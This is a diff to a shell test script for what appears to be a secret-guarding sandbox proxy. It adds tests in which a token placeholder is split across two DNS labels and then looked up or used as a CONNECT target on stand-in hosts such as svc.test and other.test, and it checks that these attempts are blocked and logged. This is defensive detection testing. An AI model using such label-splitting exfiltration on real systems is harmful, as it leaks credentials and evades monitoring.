@@ -137,6 +137,17 @@ case "$RF_OUT" in
 	ok_n=$(($(exfils) - n0))
 	is "$((ok_n >= 1))" 1 "... secret.exfil recorded for the DNS name ($ok_n: one per query type)"
 	like "$(records | grep '"secret.exfil"' | tail -1)" '"where":"DNS name looked up"' "... saying where it stood"
+	# split across labels, as a placeholder longer than a label's 63
+	# characters must be
+	n0=$(exfils)
+	er "${INJ[@]}" -- sh -c 'a=$(printf %s "$TOKEN" | cut -c1-20); b=$(printf %s "$TOKEN" | cut -c21-)
+		getent hosts "$a.$b.svc.test"; echo "rc=$?"'
+	like "$RF_OUT" 'rc=2' "DNS: the placeholder split across two labels: not resolved"
+	ok_n=$(($(exfils) - n0))
+	is "$((ok_n >= 1))" 1 "... secret.exfil recorded for it ($ok_n)"
+	n0=$(exfils)
+	er "${INJ[@]}" -- sh -c 'a=$(printf %s "$TOKEN" | cut -c1-20); getent hosts "$a.svc.test"; echo "rc=$?"'
+	is "$(($(exfils) - n0))" 0 "... the control (the first half alone, an unknown name): no secret.exfil"
 	;;
 *) skip "the captured path" "this build does not capture ($RF_OUT)" ;;
 esac
@@ -239,11 +250,14 @@ like "$(httplog | sed -n '/POST \/h10-ok /,/^--$/p')" 'Content-Length: 1100000' 
 n0=$(exfils)
 er "${INJ[@]}" -- sh -c 'python3 ec.py connect "x$TOKEN.other.test:443" "x$TOKEN.other.test"
 	python3 ec.py socks "x$TOKEN.other.test" 4443
-	python3 ec.py socks other.test 4443'
+	python3 ec.py socks other.test 4443
+	a=$(printf %s "$TOKEN" | cut -c1-20); b=$(printf %s "$TOKEN" | cut -c21-)
+	python3 ec.py connect "$a.$b.other.test:443" "$a.$b.other.test"'
 like "$(sed -n 1p <<<"$RF_OUT")" '^HTTP/1\.1 403' "a CONNECT target holding the placeholder: 403"
 like "$(sed -n 2p <<<"$RF_OUT")" '^socks REP=2' "a SOCKS5 host holding the placeholder: refused (REP=2)"
 like "$(sed -n 3p <<<"$RF_OUT")" '^socks REP=0' "... the control (SOCKS5 to other.test) works"
-is $(($(exfils) - n0)) 2 "... secret.exfil recorded for both"
+like "$(tail -n 1 <<<"$RF_OUT")" '^HTTP/1\.1 403' "a CONNECT target holding it split across two labels: 403"
+is $(($(exfils) - n0)) 3 "... secret.exfil recorded for the three"
 
 if [ -s "$TH/cert.pem" ]; then
 	n0=$(exfils)
